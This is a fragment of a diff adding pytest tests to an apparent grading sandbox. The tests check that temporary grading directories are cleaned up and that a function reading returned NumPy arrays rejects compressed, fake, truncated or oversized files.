+    import tempfile
+
+    mine = [
+        p
+        for p in Path(tempfile.gettempdir()).glob("raykit-grading-*")
+        if p.stat().st_uid == os.geteuid()
+    ]
+    assert mine == []
+
+
+def test_read_returned_refuses_what_is_not_plain_stored_arrays():
+    import io
+
+    from raykit_grading.sandbox import read_returned
+
+    good = io.BytesIO()
+    np.savez(good, t=np.arange(4.0))
+    assert read_returned(good.getvalue(), 2**20)["t"].tolist() == [0, 1, 2, 3]
+    squeezed = io.BytesIO()
+    np.savez_compressed(squeezed, t=np.zeros(10))
+    for bad in (squeezed.getvalue(), b"PK" + b"\0" * 100, good.getvalue()[:-30]):
+        with pytest.raises(ValueError):
+            read_returned(bad, 2**20)
+    with pytest.raises(ValueError):
+        read_returned(good.getvalue(), 10)
